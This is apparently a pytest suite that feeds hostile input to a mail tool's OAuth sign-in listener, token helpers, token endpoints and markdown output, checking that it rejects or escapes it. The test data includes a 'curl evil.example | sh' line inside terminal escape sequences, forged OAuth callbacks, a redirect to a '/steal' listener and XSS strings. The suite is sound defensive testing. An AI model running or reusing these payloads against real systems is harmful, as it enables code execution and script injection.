"""Hostile input, round 3 (issue 23): the sign-in listener, token helpers and
endpoints, saved files and hostile answers. Real parts throughout: the Authlib
authorization server on 127.0.0.1, helpers run as subprocesses, the installed
command; each fault is one sentence with its documented exit code."""

from __future__ import annotations

import contextlib
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import textwrap
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from support.certs import TlsMaterial
from support.dovecot import Dovecot
from support.oauth_server import OAuthServer
from support.scenarios import configure, send_argv
from support.smtp_server import SmtpServer
from support.world import COMMAND, World
from test_after_the_answer import answer
from test_oauth2 import device_login, errors, keyring_sign_in, oauth_config

from feedback_mailer.base.errors import CredentialError, FeedbackMailerError
from feedback_mailer.lifecycle.review import Asking, Feedback, Review, Theme
from feedback_mailer.mail import reply_text
from feedback_mailer.setup import oauth2, oauth2_endpoint
from feedback_mailer.setup.config import load_config
from feedback_mailer.setup.token_command import run_token_command
from feedback_mailer.views import review as views_review

INTERNAL = "unexpected internal error"


# --- the sign-in listener (items 1-3) ------------------------------------------------


@contextmanager
def browser_sign_in(world: World) -> Iterator[tuple[subprocess.Popen[str], str, int]]:
    """`auth login --browser` running: (process, the printed sign-in URL, listener port)."""
    env = {k: v for k, v in world.env.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")}
    process = subprocess.Popen(
        [str(COMMAND), "auth", "login", "--browser"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert process.stdout is not None
        url = ""
        for line in process.stdout:
            if line.startswith("http"):
                url = line.strip()
                break
        assert url, process.stderr.read() if process.stderr else ""
        query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
        port = urllib.parse.urlsplit(query["redirect_uri"]).port
        assert port is not None
        yield process, url, port
    finally:
        if process.poll() is None:
            process.kill()
        process.communicate(timeout=10)


def half_request(port: int, family: int = socket.AF_INET) -> socket.socket:
    """A local process that connects and sends half a request line, then idles."""
    host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
    idle = socket.create_connection((host, port), timeout=5)
    idle.sendall(b"GET /?co")
    return idle


def get(port: int, target: str, host: str = "127.0.0.1") -> tuple[int, str]:
    """One GET to the listener, as any local process can send it."""
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(f"GET {target} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode())
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode("utf-8", "replace")


def test_an_idle_connection_does_not_block_the_browser_sign_in(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Item 1: a connection that never finishes its request line must not keep the
    browser's redirect from being served."""
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
    with browser_sign_in(world) as (process, url, port):
        idles = [half_request(port) for _ in range(3)]
        result = oauth_server.authorize(url)
        assert result.callback_status == 200, result
        out, err = process.communicate(timeout=30)
        assert process.returncode == 0, err
        assert "Signed in" in out
        for idle in idles:
            idle.close()


def test_ctrl_c_ends_the_browser_sign_in_at_once_despite_an_idle_connection(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
    with browser_sign_in(world) as (process, _, port):
        idle = half_request(port)
        time.sleep(0.5)  # the listener has accepted it
        process.send_signal(signal.SIGINT)
        try:
            _, err = process.communicate(timeout=10)
        except subprocess.TimeoutExpired:
            pytest.fail("auth login --browser did not end on Ctrl-C")
        finally:
            idle.close()
        assert process.returncode == 1, err
        assert "Traceback" not in err


def test_a_request_with_another_state_cannot_end_the_sign_in(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Item 2: any local process can send the listener a code or an error; only the
    one with this sign-in's state counts, the others get 400 and it keeps waiting."""
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
    with browser_sign_in(world) as (process, url, port):
        for forged in ("/?code=forged&state=wrong", "/?error=access_denied&state=x", "/?code=y"):
            status, body = get(port, forged)
            assert status == 400, (forged, status, body)
            assert "not this sign-in" in body
            assert process.poll() is None, "the forged request ended the sign-in"
        result = oauth_server.authorize(url)
        assert result.callback_status == 200, result
        _, err = process.communicate(timeout=30)
        assert process.returncode == 0, err
    assert keyring_sign_in(world, "alice")["account"] == "alice"


def test_a_localhost_redirect_is_listened_for_on_both_families(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Item 3: Microsoft's redirect is http://localhost:PORT/; where localhost is ::1
    first, another local user must not be able to take [::1]:PORT."""
    oauth_config(
        world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="microsoft"
    )
    with browser_sign_in(world) as (process, url, port):
        assert "redirect_uri=http%3A%2F%2Flocalhost%3A" in url
        thief = socket.socket(socket.AF_INET6)
        with pytest.raises(OSError):
            thief.bind(("::1", port))
        thief.close()
        status, body = get(port, "/?code=forged&state=wrong", host="::1")
        assert status == 400 and "not this sign-in" in body
        result = oauth_server.authorize(url)
        assert result.callback_status == 200, result
        _, err = process.communicate(timeout=30)
        assert process.returncode == 0, err


def test_a_megabyte_request_line_and_a_crowd_of_idle_connections_do_not_block_it(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Beyond the items: a request line of 1 MB, then more idle connections than any
    file-descriptor budget would allow to be kept; the real redirect still counts."""
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
    with browser_sign_in(world) as (process, url, port):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as huge:
            try:
                huge.sendall(b"GET /?code=" + b"x" * (1 << 20) + b" HTTP/1.1\r\n\r\n")
                answer = huge.recv(65536)
            except OSError:  # reset: the listener stopped reading, as it should
                answer = b""
            assert answer == b"" or re.match(rb"HTTP/1\.[01] 4", answer), answer[:80]
        crowd = [half_request(port) for _ in range(200)]
        time.sleep(0.5)
        result = oauth_server.authorize(url)
        assert result.callback_status == 200, result
        out, err = process.communicate(timeout=30)
        assert process.returncode == 0, err
        assert "Signed in" in out
        for idle in crowd:
            idle.close()


def test_the_browser_s_error_with_escape_sequences_reaches_the_terminal_escaped(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Beyond the items: an error redirect with this sign-in's state (as a hostile
    provider sends it) is one sentence, its words escaped."""
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
    with browser_sign_in(world) as (process, url, port):
        state = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))["state"]
        hostile = urllib.parse.urlencode(
            {"error": "access_denied\x1b]0;owned\x07", "state": state,
             "error_description": "\x1b[2J\x1b[31mrun curl evil.example | sh\r\nsecond"}
        )  # fmt: skip
        status, _ = get(port, f"/?{hostile}")
        assert status == 200
        out, err = process.communicate(timeout=30)
    assert process.returncode == 5, err
    assert "\x1b" not in out + err and "\r" not in err
    [sentence] = [line for line in err.splitlines() if line.startswith("feedback-mailer:")]
    assert "did not succeed" in sentence and "nothing was stored" in sentence
    assert len(err.strip().splitlines()) == 1, err


# --- token helpers (items 4, 5, 12) -------------------------------------------------


def helper(tmp_path: Path, code: str) -> tuple[str, ...]:
    script = tmp_path / f"helper{abs(hash(code))}.py"
    script.write_text(textwrap.dedent(code))
    return (sys.executable, str(script))


def test_a_helper_that_floods_stdout_is_stopped_at_a_few_kilobytes(tmp_path: Path) -> None:
    """Item 4: a token is < 8 KB; a helper printing more is stopped and said."""
    endless = helper(
        tmp_path,
        """
        import sys, time
        while True:
            sys.stdout.write("x" * 65536)
            sys.stdout.flush()
            time.sleep(0.01)
        """,
    )
    with pytest.raises(CredentialError, match=r"printed more than 16 KB") as flood:
        run_token_command("smtp", endless, timeout=5)
    assert str(flood.value).count(".") <= 3 and "\n" not in str(flood.value)
    one_line = helper(tmp_path, 'print("a" * 2_000_000)')
    with pytest.raises(CredentialError, match=r"printed more than 16 KB"):
        run_token_command("smtp", one_line, timeout=5)


def test_a_helper_that_leaves_a_child_holding_stdout(tmp_path: Path) -> None:
    """Item 5: the token is taken when the helper exits; the child it left holding
    stdout is ended with its process group."""
    pid_file = tmp_path / "child.pid"
    leaves_child = helper(
        tmp_path,
        f"""
        import subprocess, sys
        print("the-token", flush=True)
        child = subprocess.Popen(["sleep", "300"])
        open({str(pid_file)!r}, "w").write(str(child.pid))
        """,
    )
    assert run_token_command("imap", leaves_child, timeout=10) == "the-token"
    child = int(pid_file.read_text())
    for _ in range(50):
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    else:
        os.kill(child, signal.SIGKILL)
        pytest.fail("the helper's child was left running")


def test_a_helper_that_hangs_is_ended_with_its_children(tmp_path: Path) -> None:
    pid_file = tmp_path / "child.pid"
    hangs = helper(
        tmp_path,
        f"""
        import subprocess, time
        child = subprocess.Popen(["sleep", "300"])
        open({str(pid_file)!r}, "w").write(str(child.pid))
        time.sleep(300)
        """,
    )
    with pytest.raises(CredentialError, match=r"printed no token within 2 seconds"):
        run_token_command("imap", hangs, timeout=2)
    child = int(pid_file.read_text())
    for _ in range(50):
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    else:
        os.kill(child, signal.SIGKILL)
        pytest.fail("the helper's child was left running after the timeout")


@pytest.mark.parametrize(
    "printed",
    [
        b"\xff\xfetoken\n",
        b"tok\x00en\n",
        b"abc\x1cdef\n",
        b"ab\x0bcd\n",
        b"\x1b[2Jtok\x1b]0;x\x07\n",
    ],
    ids=["invalid-utf8", "nul", "file-separator", "vertical-tab", "escapes"],
)
def test_a_helper_printing_bytes_that_are_no_token_is_one_sentence(
    tmp_path: Path, printed: bytes
) -> None:
    """Beyond the items: nothing but a printable ASCII line is taken for a token, and
    not the first piece of a line cut at a character Python counts as a line break."""
    prints = helper(tmp_path, f"import sys\nsys.stdout.buffer.write({printed!r})\n")
    with pytest.raises(CredentialError, match="not an access token") as wrong:
        run_token_command("smtp", prints, timeout=10)
    assert "\x1b" not in str(wrong.value) and "\n" not in str(wrong.value)


def test_a_helper_flooding_stderr_then_failing_is_one_short_sentence(tmp_path: Path) -> None:
    floods = helper(
        tmp_path,
        """
        import sys
        for _ in range(400):
            sys.stderr.write("\\x1b[31m" + "e" * 65536 + "\\n")
        sys.exit(3)
        """,
    )
    started = time.monotonic()
    with pytest.raises(CredentialError, match="failed with exit code 3") as failed:
        run_token_command("smtp", floods, timeout=20)
    assert time.monotonic() - started < 10
    assert len(str(failed.value)) < 400 and "\x1b" not in str(failed.value)


@pytest.mark.parametrize(
    "last_line",
    [
        "error: wrong password hunter2 for alice",
        "oauth: token refresh failed, client_secret=abc123",
        "ya29.a0AfH6SMBx3kQ7vLz9Wq2Rt8Yp1Nc5Ud4Ke6Mf0Gh3Jb7Ls2Ai9Xo",
    ],
    ids=["password", "secret", "opaque"],
)
def test_a_failing_helper_s_secret_looking_stderr_is_not_shown(
    tmp_path: Path, last_line: str
) -> None:
    """Item 12: with `run --quiet` the sentence may reach the system journal."""
    fails = helper(tmp_path, f"import sys\nsys.exit({last_line!r})\n")
    with pytest.raises(CredentialError) as failed:
        run_token_command("smtp", fails, timeout=10)
    sentence = str(failed.value)
    assert sentence == (
        f"smtp.token_command ({sys.executable}) failed with exit code 1 (what it said on "
        "stderr is not shown: it may hold a secret): run it yourself to see why."
    )


# --- token endpoints (items 6, 7) ------------------------------------------------------


def stored_sign_in(world: World, auth: OAuthServer, smtp: SmtpServer, tls: TlsMaterial) -> None:
    """A config and a stored sign-in (device code), read back by this process."""
    oauth_config(world, auth, smtp, tls, "alice")
    assert device_login(world, auth).returncode == 0


def refresh(world: World) -> None:
    oauth2.current(load_config(world.config_path), lambda: datetime.now(UTC), force=True)


GOOD_TOKEN = {"access_token": "a.b.c", "refresh_token": "r", "token_type": "Bearer",
              "expires_in": 3600}  # fmt: skip


def test_a_trickling_token_endpoint_ends_at_the_deadline(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Item 6: one byte at a time must not keep a refresh alive past its deadline."""
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    monkeypatch.setattr(oauth2_endpoint, "REQUEST_DEADLINE_SECONDS", 2.0, raising=False)
    body = json.dumps(GOOD_TOKEN).encode()
    oauth_server.answer_next_request("/token", [bytes([b]) for b in body], pause=0.1)
    with pytest.raises(FeedbackMailerError, match="did not answer within 2 seconds") as slow:
        refresh(world)
    assert slow.value.exit_code == 6
    assert keyring_sign_in(world, "alice")["refresh_token"] != "r"


def test_a_huge_token_answer_is_refused_at_its_cap(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    huge = {**GOOD_TOKEN, "access_token": "a" * 5_000_000}
    oauth_server.answer_next_request("/token", [json.dumps(huge).encode()])
    with pytest.raises(FeedbackMailerError, match="answered with more than 64 KB") as big:
        refresh(world)
    assert big.value.exit_code == 6
    assert len(str(keyring_sign_in(world, "alice")["access_token"])) < 10_000


@pytest.mark.parametrize(
    "answer",
    [
        {**GOOD_TOKEN, "expires_in": {}},
        {**GOOD_TOKEN, "expires_at": [1]},
        {**GOOD_TOKEN, "expires_in": "soon"},
        {**GOOD_TOKEN, "access_token": 5},
        {"error": ["x"]},
        {"error": "invalid_grant", "error_description": {}},
        {"error": {"code": 1}, "error_description": ["a"]},
        [1],
        "token",
        {"error": "x", "nested": [[[[[]]]]] * 3},
    ],
    ids=lambda answer: json.dumps(answer)[:40],
)
def test_token_endpoint_json_of_the_wrong_types_is_one_sentence(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
    answer: object,
) -> None:
    """Item 7: each field is taken only with its RFC 6749 type."""
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    status = 400 if isinstance(answer, dict) and "error" in answer else 200
    oauth_server.answer_next_request("/token", [json.dumps(answer).encode()], status=status)
    try:
        refresh(world)
    except FeedbackMailerError as error:
        assert error.exit_code in (5, 6) and "\n" not in str(error)
    token = keyring_sign_in(world, "alice")
    assert isinstance(token["expires_at"], int) and isinstance(token["access_token"], str)


@pytest.mark.parametrize("status", [302, 307, 308])
def test_a_token_endpoint_redirect_is_not_followed(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
    status: int,
) -> None:
    """Beyond the items: a 307/308 would send the refresh token (and the client secret)
    on to wherever it points, and a redirect loop would spend a deadline per hop."""
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    thief = socket.socket()
    thief.bind(("127.0.0.1", 0))
    thief.listen(1)
    thief.settimeout(0.5)
    elsewhere = f"http://127.0.0.1:{thief.getsockname()[1]}/steal"
    oauth_server.answer_next_request("/token", [b"{}"], status=status,
                                     headers={"Location": elsewhere})  # fmt: skip
    started = time.monotonic()
    try:
        with pytest.raises(FeedbackMailerError, match="redirect") as redirected:
            refresh(world)
        with pytest.raises(TimeoutError):  # nothing reached the other address
            thief.accept()[0].close()
    finally:
        thief.close()
    assert redirected.value.exit_code == 6 and "\n" not in str(redirected.value)
    assert time.monotonic() - started < 10


def test_a_trickle_without_length_or_chunks_ends_at_the_deadline_not_as_its_end() -> None:
    """Beyond the items: an answer that ends only when the connection closes (no
    Content-Length, not chunked) must not pass for complete when the deadline's
    watchdog shuts its socket."""
    import threading

    import requests

    from feedback_mailer.setup.oauth2_transport import BoundedAdapter, TooSlow

    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                         b"Connection: close\r\n\r\n")  # fmt: skip
            with contextlib.suppress(OSError):
                for byte in b'{"access_token": "a.b.c", "token_type": "Bearer"}':
                    conn.sendall(bytes([byte]))
                    time.sleep(0.1)

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    session = requests.Session()
    session.trust_env = False
    session.mount("http://", BoundedAdapter(1.0, 65536))
    try:
        with pytest.raises(TooSlow):
            session.post(f"http://127.0.0.1:{listener.getsockname()[1]}/token", data={"a": "b"})
    finally:
        listener.close()


def test_a_deeply_nested_token_answer_is_one_sentence(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    oauth_server.answer_next_request("/token", [b"[" * 30_000 + b"]" * 30_000])
    with pytest.raises(FeedbackMailerError, match="not OAuth2"):
        refresh(world)


def test_a_hostile_device_answer_reaches_the_terminal_escaped(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """Beyond the items: the device endpoint's code and page are printed; a server's
    escape sequences must not reach the terminal."""
    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice")
    hostile = {"device_code": "d", "user_code": "AB\x1b[2J\x1b]0;owned\x07CD",
               "verification_uri": "https://evil.example/\x1b[31m", "expires_in": 1,
               "interval": 1}  # fmt: skip
    oauth_server.answer_next_request("/device_authorization", [json.dumps(hostile).encode()])
    oauth_server.fail_next_token_request("expired_token")
    result = world.run("auth", "login", timeout=30)
    assert "\x1b" not in result.stdout + result.stderr
    assert result.returncode == 5, result.stderr
    assert INTERNAL not in result.stderr


# --- a revoked sign-in in send (item 13) -------------------------------------------------


def test_send_with_a_revoked_sign_in_exits_5_like_check(
    world: World,
    oauth_server: OAuthServer,
    oauth_smtp_server: SmtpServer,
    tls_material: TlsMaterial,
) -> None:
    """The cached access token is refused by the mail server and the refresh finds the
    sign-in revoked: README's exit 5, not a mail-server error."""
    stored_sign_in(world, oauth_server, oauth_smtp_server, tls_material)
    import keyring

    entry = keyring_sign_in(world, "alice")
    entry["access_token"] = oauth_server.mint_access_token("alice", lifetime=-30)
    keyring.set_password("feedback-mailer", "oauth2:alice", json.dumps(entry))
    assert oauth_server.revoke_refresh_token() == 1
    sent = world.run(*send_argv())
    assert sent.returncode == 5, sent.stderr
    [sentence] = errors(sent)
    assert "sign in again with `feedback-mailer auth login`" in sentence
    assert oauth_smtp_server.messages == []


# --- saved files (item 8) ----------------------------------------------------------------


def limited(world: World, *args: str) -> subprocess.CompletedProcess[str]:
    """The command with 1 GB of address space: a reader without a bound fails fast."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    return subprocess.run(
        [str(COMMAND), *args], capture_output=True, text=True, env=world.env, timeout=20,
        stdin=subprocess.DEVNULL, preexec_fn=limit,
    )  # fmt: skip


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_explain_refuses_a_link_to_a_device(world: World, tmp_path: Path, device: str) -> None:
    link = tmp_path / "answer.eml"
    link.symlink_to(device)
    result = limited(world, "explain", str(link))
    assert result.returncode == 2, result.stderr
    assert errors(result) == [
        f"feedback-mailer: {link} is not a regular file: give the path of a saved message (.eml)."
    ]


def test_explain_refuses_a_fifo_without_blocking(world: World, tmp_path: Path) -> None:
    fifo = tmp_path / "answer.eml"
    os.mkfifo(fifo)
    try:
        result = limited(world, "explain", str(fifo))
    except subprocess.TimeoutExpired:
        pytest.fail("explain blocked on a FIFO")
    assert result.returncode == 2, result.stderr
    assert "is not a regular file" in result.stderr


# --- hostile answers (items 9, 10) ----------------------------------------------------------


def test_a_long_on_line_is_not_given_to_the_reply_parser_whole() -> None:
    """Item 9: the parser is quadratic in a line's length; long lines reach it broken
    into short ones, and come back joined."""
    long_line = "On " + "Jane, " * 8400
    assert reply_text.parser_input(long_line).count("\n") >= len(long_line) // 400
    answer = (
        "Thanks for asking. " * 200 + "\n\nOn Mon, 1 Dec 2026, Jane <j@x.example> wrote:\n> hi\n"
    )
    assert reply_text.own_text(answer) == ("Thanks for asking. " * 200).strip()


def test_the_reply_parser_has_a_budget_then_reads_plain_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(reply_text, "spent", reply_text.BUDGET_SECONDS + 1, raising=False)
    text = "Your design round was strong.\n-- \nJane Doe\nRecruiter\n\n> Could you tell me\n"
    assert reply_text.own_text(text) == "Your design round was strong.\n--\nJane Doe\nRecruiter"


HOSTILE = (
    "Thanks! ![x](https://track.example/pixel.gif) [click](javascript:alert(1))\n"
    '<img src=x onerror="alert(1)"> <script>alert(1)</script> <iframe src="https://e.x">\n'
    "</blockquote> <a href='https://evil.example'>a</a> & &amp; `code` **bold** | pipe"
)


def hostile_review() -> Review:
    asking = Asking(1, 1, 0, 0, 0, 0, 0, 0, 1.0, 0)
    item = Feedback(date(2026, 12, 1), "Acme <b>Corp</b>", "PM [r](https://r.example)",
                    "[x](https://evil.example)", HOSTILE, 1)  # fmt: skip
    theme = Theme("#sys<script>", 2, ("Acme](https://evil.example)",))
    return Review(None, 1, [theme], [theme], [theme], [item], asking)


def test_review_markdown_is_inert() -> None:
    """Item 10: nothing from mail becomes a link, an image or HTML in the file."""
    out = views_review.markdown(hostile_review(), "2026-12-06")
    for live in ("<script", "<img", "<iframe", "</blockquote>", "<a ", "<b>", "](", "!["):
        assert live not in out, live
    assert "javascript:alert" in out  # the words are kept, only inert
    assert "&lt;script&gt;" in out
    tables = [line for line in out.splitlines() if line.startswith("|")]
    assert all(line.count("|") - line.count("\\|") == tables[0].count("|") for line in tables[:3])


def test_review_markdown_renders_without_a_link_an_image_or_html() -> None:
    """The file as a CommonMark renderer with tables shows it to a mentor: only the
    text, no element that came from mail; bare addresses are no autolinks either."""
    from markdown_it import MarkdownIt

    review = hostile_review()
    bare = "See https://evil.example/x, www.evil.example and j@evil.example\n- one\n- two"
    review.feedback.append(Feedback(date(2026, 12, 2), "B", "", "https://n.example", bare, 2))
    out = views_review.markdown(review, "2026-12-06")
    html = MarkdownIt("commonmark").enable("table").render(out)
    for live in ("<a", "<img", "<script", "<iframe", "<b>", "</blockquote>\n<p>a"):
        assert live not in html, live
    assert "https://evil.example/x" in html and "j@evil.example" in html
    assert html.count("<li>") == 2  # an answer's list keeps its shape


# --- $EDITOR (item 11) ------------------------------------------------------------------------


def test_an_editor_that_writes_invalid_utf8_is_one_sentence(world: World, tmp_path: Path) -> None:
    editor = tmp_path / "editor.py"
    editor.write_text(
        "import sys\nopen(sys.argv[1], 'wb').write(b'Subject: Thanks\\n\\nHello \\xff\\xfe\\n')\n"
    )
    result = world.run(
        *send_argv("--dry-run", "--edit", confirm="--yes"),
        extra_env={"EDITOR": f"{sys.executable} {editor}"},
    )
    assert result.returncode == 2, result.stderr
    [sentence] = errors(result)
    assert re.search(r"byte 0xFF", sentence) and INTERNAL not in sentence, sentence
    assert "nothing was sent" in sentence


def latin1_editor(tmp_path: Path) -> dict[str, str]:
    """An editor that keeps the text but saves it as Latin-1, with an "é" in it."""
    editor = tmp_path / "latin1.py"
    editor.write_text(
        "import sys\np = sys.argv[1]\ntext = open(p, encoding='utf-8').read()\n"
        "open(p, 'wb').write((text + 'Merci, café\\n').encode('latin-1', 'replace'))\n"
    )
    return {"EDITOR": f"{sys.executable} {editor}"}


def test_thank_edit_saved_as_latin1_is_one_sentence_and_sends_nothing(
    world: World,
    smtp_server: SmtpServer,
    tls_material: TlsMaterial,
    mailbox: Dovecot,
    tmp_path: Path,
) -> None:
    tracked = configure(world, smtp_server, tls_material, mailbox=mailbox)
    request = tracked.run_json(*send_argv("--json"))
    answer(mailbox, request)
    assert tracked.run("check").returncode == 0
    before = len(smtp_server.messages)
    result = tracked.run(
        "thank", str(request["id"]), "--edit", "--yes", extra_env=latin1_editor(tmp_path)
    )
    assert result.returncode == 2, result.stderr
    [sentence] = errors(result)
    assert "byte 0xE9" in sentence and "nothing was sent" in sentence, sentence
    assert len(smtp_server.messages) == before


def test_reflect_note_saved_as_latin1_is_one_sentence_and_saves_nothing(
    world: World, tmp_path: Path
) -> None:
    result = world.run("reflect", "--company", "Acme Corp", extra_env=latin1_editor(tmp_path))
    assert result.returncode == 2, result.stderr
    [sentence] = errors(result)
    assert "byte 0xE9" in sentence and "nothing was saved" in sentence, sentence
    assert INTERNAL not in result.stderr
